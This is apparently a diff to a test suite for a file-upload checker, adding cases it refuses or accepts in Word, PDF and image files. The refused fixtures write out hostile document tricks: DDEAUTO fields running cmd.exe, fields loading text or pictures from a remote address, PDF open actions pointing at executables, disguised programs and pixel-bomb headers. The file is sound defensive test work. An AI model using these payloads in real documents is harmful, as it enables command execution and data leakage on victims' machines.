@@ -3,6 +3,8 @@
 // another computer, embedded objects, also in the workbook of a chart; a PDF with scripts, actions that start programs,
 // or attached files, hidden in
 //   escaped names, object streams, strings and comments; files made to keep the check busy.
+// or that send data; fields of Word that start programs or load files, split over runs; programs called pictures;
+// pictures of gigapixels; files that end too early.
 // Before: only a .docx with macros that named itself so was refused; all others were stored and shown. Later every
 // .docx with a
 //   chart was refused, for its workbook.
@@ -14,8 +16,11 @@ import {
   compoundFile,
   docWithTemplate,
   docx,
+  jpg,
   objectStream,
+  pdf,
   pdfWith,
+  png,
   rels,
   xlsx,
 } from '../fixtures/attachments.ts';
@@ -50,6 +55,42 @@ const [SCRIPT, LAUNCH, ATTACHED, PROTECTED] = [
   'MSG_upload_0122',
 ];
 
+const DAMAGED = 'MSG_upload_0006';
+const [INCOMPLETE, FIELD, PIXELS, FOREIGN, SUBMIT] = [
+  'MSG_upload_0127',
+  'MSG_upload_0128',
+  'MSG_upload_0129',
+  'MSG_upload_0130',
+  'MSG_upload_0131',
+];
+
+/** A Word document whose main part has this text. */
+const withText = (xml: string, prolog = ''): Promise<Buffer> =>
+  docx(undefined, {
+    'word/document.xml': Buffer.from(
+      `<?xml version="1.0"?>${prolog}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${xml}</w:p></w:body></w:document>`,
+    ),
+  });
+const run = (xml: string): string => `<w:r>${xml}</w:r>`;
+const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`);
+/** A field whose instruction stands in several runs. */
+const field = (...instruction: string[]): string =>
+  [
+    mark('begin'),
+    ...instruction.map((text) => (text.startsWith('<') ? text : run(`<w:instrText>${text}</w:instrText>`))),
+    mark('separate'),
+    run('<w:t>result</w:t>'),
+    mark('end'),
+  ].join('');
+const simple = (instruction: string): string => `<w:fldSimple w:instr="${instruction}"/>`;
+const part = (name: string, bytes: Buffer): Promise<Buffer> => docx(undefined, { [name]: bytes });
+/** A picture whose header says that it is larger than it is. */
+function largePicture(bytes: Buffer, at: number, sizes: Buffer): Buffer {
+  sizes.copy(bytes, at);
+  return bytes;
+}
+const HALF_MILLION = Buffer.from('0007a1200007a120', 'hex');
+
 const withRels = (...each: Parameters<typeof rels>): Promise<Buffer> =>
   docx(undefined, { 'word/_rels/document.xml.rels': rels(...each) });
 const settings = (target: string): Promise<Buffer> =>
@@ -76,6 +117,9 @@ const REFUSED: Case[] = [
     EXTERNAL,
   ],
   ['a template of another computer', 'a.doc', () => docWithTemplate('\\\\198.51.100.1\\share\\a.dotm'), EXTERNAL],
+  ['a field that starts a program', 'a.doc', () => docWithField('DDEAUTO cmd', 'utf16le'), FIELD],
+  ['a field that starts a program, in 8 bits', 'a.doc', () => docWithField(' dde cmd', 'latin1'), FIELD],
+  ['a field that loads a text', 'a.doc', () => docWithField('INCLUDETEXT "http://198.51.100.1/a"', 'latin1'), FIELD],
   ['a password', 'a.doc', () => docWithTemplate('Normal.dot', { isEncrypted: true }), ENCRYPTED],
   ['a part with macros', 'a.docx', () => docx(undefined, { 'word/vbaProject.bin': Buffer.from('x') }), MACROS],
   ['macros under another name', 'a.docx', () => withRels(['vbaProject', 'media/image1.png']), MACROS],
@@ -280,6 +324,86 @@ const REFUSED: Case[] = [
     () => pdfWith(['1 0 obj<</First 999999>>stream\n'.repeat(6000)]),
     UNREADABLE,
   ],
+  ['a field that starts a program', 'a.docx', () => withText(field('DDEAUTO c:\\\\cmd.exe &quot;/k&quot;')), FIELD],
+  ['a field split over runs', 'a.docx', () => withText(field(' D', 'DE', 'AUTO', ' cmd')), FIELD],
+  ['a field in small letters', 'a.docx', () => withText(field(' dde Excel Sheet1 R1')), FIELD],
+  ['a simple field that starts a program', 'a.docx', () => withText(simple(' DDEAUTO cmd')), FIELD],
+  ['a field that another field names', 'a.docx', () => withText(field(field('QUOTE 68 68 69'), ' cmd')), FIELD],
+  [
+    'a field in a deleted text',
+    'a.docx',
+    () => withText(`${mark('begin')}<w:delInstrText>DDE x</w:delInstrText>`),
+    FIELD,
+  ],
+  [
+    'a field in a header',
+    'a.docx',
+    () => part('word/header1.xml', Buffer.from(`<h xmlns:w="w"><x>${simple('DDE x')}</x></h>`)),
+    FIELD,
+  ],
+  [
+    'a field in a part called otherwise',
+    'a.docx',
+    () => part('word/a.dat', Buffer.from(`\ufeff <h xmlns:w="w">${simple('DDE x')}</h>`, 'utf16le')),
+    FIELD,
+  ],
+  [
+    'a picture field',
+    'a.docx',
+    () => withText(field('INCLUDEPICTURE "http://198.51.100.1/a.png" \\* MERGEFORMAT')),
+    FIELD,
+  ],
+  ['a text field', 'a.docx', () => withText(field('INCLUDETEXT "\\\\\\\\198.51.100.1\\\\a.docx"')), FIELD],
+  ['an import field', 'a.docx', () => withText(simple('IMPORT file://198.51.100.1/a.png')), FIELD],
+  ['a link field', 'a.docx', () => withText(field('LINK Excel.Sheet.12 “https://198.51.100.1/a.xlsx” Sheet1')), FIELD],
+  [
+    'a picture field with a computed address',
+    'a.docx',
+    () => withText(field('INCLUDEPICTURE ', field('QUOTE x'))),
+    FIELD,
+  ],
+  ['a document type', 'a.docx', () => withText('', '<!DOCTYPE w:document [<!ENTITY a "b">]>'), DAMAGED],
+  [
+    'a document type in a part of its data',
+    'a.docx',
+    () => part('customXml/item1.xml', Buffer.from('<!DOCTYPE a><a/>')),
+    DAMAGED,
+  ],
+  ['a program among its pictures', 'a.docx', () => part('word/media/image1.exe', Buffer.from('x')), FOREIGN],
+  ['a program called a picture', 'a.docx', () => part('word/media/image1.png', Buffer.from('MZ\x90')), FOREIGN],
+  ['a script', 'a.docx', () => part('word/a.js', Buffer.from('x')), FOREIGN],
+  ['a page', 'a.docx', () => part('word/media/a.html', Buffer.from('<html/>')), FOREIGN],
+  ['250 gigapixels', 'a.png', () => largePicture(png(), 16, HALF_MILLION), PIXELS],
+  [
+    '4 gigapixels',
+    'a.jpg',
+    () => largePicture(jpg(), jpg().indexOf(Buffer.from('ffc0', 'hex')) + 5, Buffer.alloc(4, 255)),
+    PIXELS,
+  ],
+  [
+    'a file to open at once',
+    'a.pdf',
+    () => pdfWith(['<</OpenAction<</S/URI/URI(file:///C:/Windows/a.exe)>>>>']),
+    LAUNCH,
+  ],
+  ['a file to open, in escaped letters', 'a.pdf', () => pdfWith(['<</S/URI/URI(f\\151le://198.51.100.1/a)>>']), LAUNCH],
+  ['a file to open, in hexadecimal', 'a.pdf', () => pdfWith(['<</S/URI/URI<66696C653A2F2F61>>>']), LAUNCH],
+  [
+    'a file to open, in another object',
+    'a.pdf',
+    () => pdfWith(['<</S/URI/URI 11 0 R>>', '(file://198.51.100.1/a)']),
+    LAUNCH,
+  ],
+  ['files to open, by their common place', 'a.pdf', () => pdfWith(['<</URI<</Base(file://198.51.100.1/)>>>>']), LAUNCH],
+  [
+    'a form that is sent when a page opens',
+    'a.pdf',
+    () => pdfWith(['<</AA<</O<</S/SubmitForm/F(http://a)>>>>>>']),
+    SUBMIT,
+  ],
+  ['no end', 'a.pdf', () => pdf().subarray(0, -7), INCOMPLETE],
+  ['no place of its table', 'a.pdf', () => Buffer.from(pdf().toString('latin1').replace('startxref', 'x')), INCOMPLETE],
+  ['text behind its end', 'a.pdf', () => Buffer.concat([pdf(), Buffer.alloc(5000, 'x')]), INCOMPLETE],
   ['lists within lists without end', 'a.pdf', () => pdfWith(['['.repeat(5_000_000)]), UNREADABLE],
 ];
 
@@ -304,6 +428,7 @@ describe('what only looks like that is accepted:', () => {
           more: { 'word/embeddings/Microsoft_Excel_工作表1.xlsx': await xlsx() },
         }),
     ],
+    ['a field with the page number', 'a.doc', () => docWithField(' PAGE ', 'utf16le')],
     ['a template of the own machine', 'a.doc', () => docWithTemplate('C:\\Templates\\Letter.dot')],
     [
       'an empty pool of objects',
@@ -315,6 +440,23 @@ describe('what only looks like that is accepted:', () => {
       'a.pdf',
       () => pdfWith(['<</S/URI/URI(https://example.com/JavaScript/Launch)>>']),
     ],
+    [
+      'fields of a report',
+      'a.docx',
+      () =>
+        withText(
+          [
+            field(' PAGE '),
+            field(' HYPERLINK ', '"https://example.com/"'),
+            field('INCLUDEPICTURE "C:\\\\Users\\\\a.png" \\* MERGEFORMATINET'),
+            field('IF ', field('MERGEFIELD a'), ' = "DDE" "x"'),
+            run('<w:t>DDEAUTO cmd</w:t>'),
+          ].join(''),
+        ),
+    ],
+    ['pictures', 'a.docx', () => part('word/media/image1.emf', Buffer.from('x'))],
+    ['a title that is a file name', 'a.pdf', () => pdfWith(['<</Title 11 0 R>>', '(file:///C:/a.html)'])],
+    ['zeros behind the end', 'a.pdf', () => Buffer.concat([pdf(), Buffer.alloc(1000)])],
     ['words in a text', 'a.pdf', () => pdfWith(['(see /JavaScript and /S /Launch)'])],
     [
       'words in a packed stream',
@@ -343,6 +485,14 @@ describe('what only looks like that is accepted:', () => {
     expect(await upload(name, await make())).toMatchObject({ status: 201 });
   });
 });
+
+/** A Word 97 document with a field: its marks and instruction stand in the text of the main stream. */
+function docWithField(instruction: string, encoding: 'latin1' | 'utf16le'): Buffer {
+  const file = docWithTemplate('Normal.dot');
+  // behind the file information block of the main stream, which begins in the third sector
+  Buffer.from(`\x13${instruction}\x14result\x15`, encoding).copy(file, 512 * 3 + 0x400);
+  return file;
+}
 
 /** Bytes without a pattern, the same each time, and again from the start up to `total`. */
 function anyBytes(length: number, total = length): Buffer {
